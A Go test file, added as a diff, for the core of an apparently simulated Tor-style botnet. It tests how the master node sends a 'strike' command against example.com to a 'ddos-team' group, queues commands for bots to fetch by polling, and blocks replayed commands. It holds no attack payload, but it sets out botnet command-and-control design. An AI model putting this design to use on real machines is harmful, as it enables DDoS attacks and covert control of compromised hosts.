@@ -1,0 +1,125 @@
+package core
+
+import (
+	"testing"
+	"time"
+)
+
+func TestGroupCastReachesOnlyMembers(t *testing.T) {
+	bn := newTestBotNet(t, 100, BotConfig{DMin: 2, DMax: 5})
+	bn.Master.HotlistSize = 3
+	grow(t, bn, 8)
+	requireConnected(t, bn)
+
+	recs := bn.Master.Records()
+	members := recs[:3]
+	if err := bn.Master.CreateGroup("ddos-team", members); err != nil {
+		t.Fatal(err)
+	}
+	bn.Run(2 * time.Minute) // key delivery
+
+	// Members hold the key; non-members do not.
+	inGroup := 0
+	for _, b := range bn.AliveBots() {
+		for _, g := range b.Groups() {
+			if g == "ddos-team" {
+				inGroup++
+			}
+		}
+	}
+	if inGroup != 3 {
+		t.Fatalf("%d bots joined the group, want 3", inGroup)
+	}
+
+	// Group-cast through an arbitrary entry bot.
+	cmd := bn.Master.NewCommand("strike", []byte("example.com"))
+	entry := bn.AliveBots()[5]
+	if err := bn.Master.GroupCast("ddos-team", []string{entry.Onion()}, cmd, 8); err != nil {
+		t.Fatal(err)
+	}
+	bn.Run(2 * time.Minute)
+	if got := bn.ExecutedCount("strike"); got != 3 {
+		t.Fatalf("group command executed on %d bots, want exactly the 3 members", got)
+	}
+	// Non-members relayed it (they cannot even tell it was a group
+	// message they are not in).
+	relayed := 0
+	for _, b := range bn.AliveBots() {
+		relayed += b.Stats().MessagesRelayed
+	}
+	if relayed == 0 {
+		t.Fatal("group-cast was never relayed")
+	}
+}
+
+func TestGroupCastUnknownGroupFails(t *testing.T) {
+	bn := newTestBotNet(t, 101, BotConfig{})
+	grow(t, bn, 3)
+	cmd := bn.Master.NewCommand("x", nil)
+	err := bn.Master.GroupCast("nope", []string{bn.AliveBots()[0].Onion()}, cmd, 4)
+	if err == nil {
+		t.Fatal("group-cast to unknown group succeeded")
+	}
+}
+
+func TestPullBasedCommands(t *testing.T) {
+	bn := newTestBotNet(t, 102, BotConfig{})
+	grow(t, bn, 4)
+	recs := bn.Master.Records()
+
+	// Queue a command for one bot and another for everyone.
+	bn.Master.QueueFor(recs[1], bn.Master.NewCommand("solo", nil))
+	bn.Master.QueueForAll(bn.Master.NewCommand("everyone", nil))
+	if bn.Master.PendingFor(recs[1]) != 2 {
+		t.Fatalf("pending = %d, want 2", bn.Master.PendingFor(recs[1]))
+	}
+
+	// Nothing executes until bots poll.
+	bn.Run(10 * time.Minute)
+	if bn.ExecutedCount("solo") != 0 || bn.ExecutedCount("everyone") != 0 {
+		t.Fatal("queued commands executed without polling")
+	}
+
+	for _, b := range bn.AliveBots() {
+		if err := b.Poll(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	bn.Run(2 * time.Minute)
+	if got := bn.ExecutedCount("everyone"); got != 4 {
+		t.Fatalf("broadcast-queued command executed on %d/4", got)
+	}
+	if got := bn.ExecutedCount("solo"); got != 1 {
+		t.Fatalf("solo-queued command executed on %d bots, want 1", got)
+	}
+	// Queues drain after delivery.
+	if bn.Master.PendingFor(recs[1]) != 0 {
+		t.Fatal("queue not drained after poll")
+	}
+}
+
+func TestPeriodicPolling(t *testing.T) {
+	bn := newTestBotNet(t, 103, BotConfig{})
+	grow(t, bn, 3)
+	for _, b := range bn.AliveBots() {
+		b.StartPolling(10 * time.Minute)
+	}
+	bn.Master.QueueForAll(bn.Master.NewCommand("pulled", nil))
+	bn.Run(15 * time.Minute) // one poll cycle
+	if got := bn.ExecutedCount("pulled"); got != 3 {
+		t.Fatalf("periodic polling delivered to %d/3", got)
+	}
+	// Replay safety: a second poll cycle must not re-execute.
+	bn.Run(15 * time.Minute)
+	for _, b := range bn.AliveBots() {
+		count := 0
+		for _, rec := range b.Executed() {
+			if rec.Name == "pulled" {
+				count++
+			}
+		}
+		if count != 1 {
+			t.Fatalf("pulled command executed %d times", count)
+		}
+	}
+}
